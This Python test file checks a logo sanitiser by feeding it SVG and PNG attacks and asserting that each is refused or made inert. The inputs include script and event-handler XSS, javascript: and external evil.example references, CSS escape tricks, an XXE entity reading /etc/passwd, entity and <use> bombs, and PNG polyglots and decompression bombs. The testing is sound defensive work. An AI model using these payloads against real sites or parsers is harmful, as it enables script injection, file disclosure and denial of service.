"""An attacker's review of the logo sanitiser (issue 32, domain/logos.py): every SVG trick either refuses
the file or leaves nothing that runs, fetches or links outside the image; a PNG is judged by its frame."""

from __future__ import annotations

import codecs
import re
import struct
import zlib
from xml.etree import ElementTree

import pytest

from chalicelib.domain.logos import ATTRIBUTES, ELEMENTS, SVG_NS, LogoError, checked_logo

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
EVIL = "evil.example"


def svg(inner: str) -> bytes:
    return f"{OPEN}{inner}</svg>".encode()


ATTACKS: dict[str, bytes] = {
    "script": svg("<script>alert(1)</script>"),
    "script_in_other_case": svg("<SCRIPT>alert(1)</SCRIPT><Script/>"),
    "onload_lower": svg('<rect onload="alert(1)"/>'),
    "onload_upper": svg('<rect ONLOAD="alert(1)" OnClick="alert(2)"/>'),
    "onload_in_svg_namespace": svg('<rect xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)"/>'),
    "onload_in_xlink_namespace": svg('<rect xlink:onload="alert(1)"/>'),
    "onload_on_root": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
    "a_javascript_href": svg('<a href="javascript:alert(1)"><text>x</text></a>'),
    "a_xlink_javascript": svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
    "use_data": svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
    "use_xlink_external": svg(f'<use xlink:href="https://{EVIL}/s.svg#a"/>'),
    "use_javascript_spaced": svg('<use href=" javascript:alert(1)"/>'),
    "use_fragment_then_url": svg(f'<use href="#a https://{EVIL}/"/>'),
    "image_external": svg(f'<image href="https://{EVIL}/i.png"/><image xlink:href="https://{EVIL}/j"/>'),
    "image_data": svg('<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    "feimage": svg(f'<filter id="f"><feImage href="https://{EVIL}/f"/></filter><rect filter="url(#f)"/>'),
    "pattern": svg(f'<pattern id="p"><image href="https://{EVIL}/p"/></pattern><rect fill="url(#p)"/>'),
    "pattern_href": svg(f'<pattern id="p" href="https://{EVIL}/p.svg#q"/>'),
    "gradient_external_href": svg(f'<linearGradient id="g" xlink:href="https://{EVIL}/g.svg#g"/>'),
    "fill_url": svg(f'<rect fill="url(https://{EVIL}/f#x)"/>'),
    "fill_url_upper_quoted": svg(f"<rect fill=\"URL( 'https://{EVIL}/f' )\"/>"),
    "fill_fragment_then_url": svg(f"<rect fill=\"url('#a') url('https://{EVIL}/')\"/>"),
    "mask_url": svg(f'<rect mask="url(https://{EVIL}/#m)" clip-path="url(data:x)"/>'),
    "style_url": svg(f'<rect style="fill:url(https://{EVIL}/a)"/>'),
    "style_url_entity_quoted": svg(f'<rect style="fill:url(&quot;https://{EVIL}/a&quot;)"/>'),
    "style_import": svg(f"<rect style=\"@import 'https://{EVIL}/c.css'\"/>"),
    "style_expression": svg('<rect style="width:expression (alert(1))"/>'),
    "style_javascript": svg('<rect style="background:javascript:alert(1)"/>'),
    "style_escaped_url": svg(f'<rect style="fill:\\75rl(https://{EVIL}/a)"/>'),
    # a presentation attribute is parsed as CSS too: an escape spells url( without the letters
    "fill_escaped_url": svg(f'<rect fill="\\75rl(https://{EVIL}/a)"/>'),
    "mask_escaped_url": svg(f'<rect mask="\\55 RL(https://{EVIL}/m)"/>'),
    # image-set() and src() fetch a string, no url( needed
    "style_image_set": svg(f"<rect style=\"background-image:image-set('https://{EVIL}/a' 1x)\"/>"),
    "root_style_webkit_image_set": (
        f'<svg xmlns="{SVG_NS}" style="background:-webkit-image-set(\'https://{EVIL}/b\' 1x)"><rect/></svg>'
    ).encode(),
    "style_src": svg(f"<rect style=\"mask-image:src('https://{EVIL}/s')\"/>"),
    "style_element": svg(
        f"<style>@import url(https://{EVIL}/c.css); rect{{fill:url(https://{EVIL}/)}}</style>"
    ),
    "style_element_cdata": svg(f"<style><![CDATA[@import 'https://{EVIL}/c.css';]]></style>"),
    "foreign_object": svg(
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div>'
        "</foreignObject>"
    ),
    "iframe": svg(f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://{EVIL}/"/>'),
    "html_script_namespace": svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
    "set_href_link": svg(
        '<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'
        '<use href="#a"><set attributeName="href" to="https://evil.example/x.svg#a"/></use>'
    ),
    "animate_href": svg(
        '<a href="#a"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'
    ),
    "animate_xlink_href": svg(
        '<use href="#a"><animate attributeName="xlink:href" from="#a" to="https://evil.example/x#a"/></use>'
    ),
    "processing_instructions": (
        f'<?xml version="1.0"?><?xml-stylesheet href="https://{EVIL}/x.css"?>{OPEN}<?php evil ?><rect/></svg>'
    ).encode(),
    "cdata_markup_in_text": svg("<text><![CDATA[<script>alert(1)</script>]]></text>"),
    "escaped_markup_in_text": svg("<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>"),
    "markup_in_tail": svg("<text>a<tspan>b</tspan>&lt;img src=x onerror=alert(1)&gt;</text>"),
    "quote_breaking_id": svg('<rect id="a&quot; onload=&quot;alert(1)"/>'),
    "xml_base": svg(f'<g xml:base="https://{EVIL}/"><use href="#a"/></g>'),
    "comment_with_markup": svg("<!-- <script>alert(1)</script> --><rect/>"),
}
REFUSED: dict[str, bytes] = {
    "billion_laughs": (
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&d;&d;&d;&d;</text></svg>'
    ),
    "quadratic_blowup": (
        b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "' + b"x" * 30000 + b'">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>' + b"&a;" * 2000 + b"</text></svg>"
    ),
    "external_entity": (
        b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    ),
    "external_dtd": (
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
    ),
    "parameter_entity": (
        b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "html_page": b"<html><body><script>alert(1)</script></body></html>",
    "svg_in_xhtml_namespace": b'<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
    "svg_without_namespace": b"<svg><script>alert(1)</script></svg>",
    "gzip_svgz": zlib.compress(svg("<rect/>")),
    "empty": b"",
    "whitespace": b"   \n",
    "too_deep": (OPEN + "<g>" * 40 + "</g>" * 40 + "</svg>").encode(),
}
# What may never survive as markup, in any case: a fetch, a script, an element that links (a handler is
# judged by name below: escaped text that spells one is text).
FORBIDDEN_TEXT = re.compile(
    rb"evil\.example|javascript:|data:|<script|@import|expression|image-set|src\(|"
    rb"<style|<foreignobject|<iframe|<image|<feimage|<set|<animate|<\?|<!|xml:base",
    re.IGNORECASE,
)


def assert_inert(kept: bytes) -> None:
    assert not FORBIDDEN_TEXT.search(kept), kept
    root = ElementTree.fromstring(kept)
    assert root.tag == f"{{{SVG_NS}}}svg"
    for element in root.iter():
        assert element.tag.removeprefix(f"{{{SVG_NS}}}") in ELEMENTS, kept
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, kept
            assert "\\" not in value, kept
            if name == "href":
                assert re.fullmatch(r"#[A-Za-z_][\w.-]*", value), kept
            for target in re.findall(r"url\s*\(\s*['\"]?\s*([^)'\"]*)", value, re.IGNORECASE):
                assert target.startswith("#"), kept


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_svg_attack_leaves_nothing_that_runs_or_fetches(name: str) -> None:
    try:
        content_type, kept = checked_logo(ATTACKS[name])
    except LogoError:
        return  # refusing the whole file is a defence too
    assert content_type == "image/svg+xml"
    assert_inert(kept)


@pytest.mark.parametrize("name", list(REFUSED))
def test_a_bomb_an_entity_or_what_is_no_svg_is_refused(name: str) -> None:
    with pytest.raises(LogoError):
        checked_logo(REFUSED[name])


def test_escaped_markup_stays_text_once_kept() -> None:
    """Text is kept as text: an escaped <script> is escaped again, never turned into an element."""
    kept = checked_logo(svg("<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>"))[1]
    assert b"&lt;script&gt;" in kept and b"<script" not in kept


def test_the_drawing_and_its_own_references_survive() -> None:
    """The defence is no blanket refusal: fragments, gradients and a readable style are kept."""
    drawing = svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#7b1fa2"/></linearGradient></defs>'
        '<rect id="r" fill="url(#g)" style="stroke:#000;stroke-width:2"/><use href="#r" x="4"/>'
    )
    kept = checked_logo(drawing)[1]
    assert b'fill="url(#g)"' in kept and b'style="stroke:#000;stroke-width:2"' in kept
    assert b'href="#r"' in kept


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_another_encoding_or_a_bom_smuggles_nothing(codec: str) -> None:
    """Kept inert, or refused as a LogoError (a 400), never another exception (a 500): expat refuses a
    declared utf-16-le/-be with a bare ValueError."""
    declared = "" if codec in ("utf-16", "utf-8-sig") else f'<?xml version="1.0" encoding="{codec}"?>'
    text = declared + OPEN + '<script>alert(1)</script><rect onload="alert(1)"/><text>é</text></svg>'
    raw = text.encode(codec)
    if codec == "utf-16-le":
        raw = codecs.BOM_UTF16_LE + raw
    if codec == "utf-16-be":
        raw = codecs.BOM_UTF16_BE + raw
    try:
        content_type, kept = checked_logo(raw)
    except LogoError:
        return
    assert content_type == "image/svg+xml"
    assert_inert(kept)
    assert "é".encode() in kept  # served as UTF-8, which an SVG without a declaration is read as


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*extra: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(extra) + idat + chunk(b"IEND", b"")


def test_a_png_is_kept_byte_for_byte_as_a_png() -> None:
    """A polyglot (HTML in a text chunk) stays a PNG: its bytes are served as image/png with nosniff
    (tests/api/test_brand_attacks.py), so no browser reads the HTML in it."""
    polyglot = png(chunk(b"tEXt", b"Comment\x00<html><script>alert(1)</script></html>"))
    assert checked_logo(polyglot) == ("image/png", polyglot)


@pytest.mark.parametrize(
    "raw",
    [
        b"\x89PNG\r\n\x1a\n",  # the signature alone
        b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>",
        png()[:-12],  # cut before IEND
        png() + b"<html><script>alert(1)</script></html>",  # HTML after IEND
        b"\x89PNG\r\n\x1a\n" + chunk(b"tEXt", b"<html>") + png()[8:],  # IHDR not first
    ],
    ids=["signature_only", "html_behind_signature", "cut", "html_after_iend", "ihdr_not_first"],
)
def test_what_only_looks_like_a_png_is_refused(raw: bytes) -> None:
    with pytest.raises(LogoError):
        checked_logo(raw)


def test_the_size_is_judged_on_what_was_sent_and_64_kib_is_the_limit() -> None:
    filler = chunk(b"tEXt", b"x" * 100)
    base = png(filler)
    exact = png(chunk(b"tEXt", b"x" * (100 + 64 * 1024 - len(base))))
    assert len(exact) == 64 * 1024 and checked_logo(exact)[0] == "image/png"
    with pytest.raises(LogoError):
        checked_logo(png(chunk(b"tEXt", b"x" * (101 + 64 * 1024 - len(base)))))


def png_of_size(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    # a deflate stream of zeros grows about a thousandfold: rows of a huge image fit in a few KiB
    idat = chunk(b"IDAT", zlib.compress(b"\x00" * min(height * (width * 4 + 1), 8 * 1024 * 1024), 9))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + idat + chunk(b"IEND", b"")


@pytest.mark.parametrize(("width", "height"), [(60000, 60000), (100000, 1), (1, 100000)])
def test_a_png_that_decompresses_to_gigabytes_is_refused(width: int, height: int) -> None:
    """A decompression bomb: under 64 KiB sent, billions of pixels for every browser and mail client that
    shows the logo. Its header says so; a logo needs no side over 4096 pixels."""
    bomb = png_of_size(width, height)
    assert len(bomb) <= 64 * 1024
    with pytest.raises(LogoError):
        checked_logo(bomb)


def test_a_large_but_sane_png_is_kept() -> None:
    wide = png_of_size(4096, 40)
    assert checked_logo(wide) == ("image/png", wide)


def use_bomb(levels: int, fan: int) -> bytes:
    """<use> as billion laughs: each level draws the one before `fan` times, fan ** levels shapes."""
    parts = ['<defs><g id="l0"><rect width="1" height="1"/></g>']
    for level in range(1, levels + 1):
        uses = "".join(f'<use href="#l{level - 1}"/>' for _ in range(fan))
        parts.append(f'<g id="l{level}">{uses}</g>')
    parts.append(f'</defs><use href="#l{levels}"/>')
    return svg("".join(parts))


@pytest.mark.parametrize(
    "raw",
    [
        use_bomb(12, 10),  # 10^12 rectangles to draw from 1 KiB
        use_bomb(30, 2),
        svg('<g id="a"><use href="#a"/></g>'),  # itself
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),  # a loop
    ],
    ids=["ten_to_the_twelve", "two_to_the_thirty", "itself", "loop"],
)
def test_a_use_bomb_or_loop_is_refused(raw: bytes) -> None:
    with pytest.raises(LogoError):
        checked_logo(raw)


def test_uses_that_draw_a_sane_number_of_shapes_are_kept() -> None:
    kept = checked_logo(use_bomb(3, 4))[1]  # 64 rectangles
    assert kept.count(b"<use ") == 13


def test_a_long_chain_of_uses_is_counted_without_recursion() -> None:
    """1700 groups each using the previous, all drawn: about 1700^2 / 2 elements (a quadratic blowup),
    refused as such; a check recursing along the chain would pass Python's recursion limit first, a 500
    instead of an answer."""
    chain = "".join(f'<g id="c{i}"><use href="#c{i - 1}"/></g>' for i in range(1, 1700))
    raw = svg(f'<g id="c0"><rect/></g>{chain}')
    assert len(raw) <= 64 * 1024
    with pytest.raises(LogoError, match="draws more than"):
        checked_logo(raw)
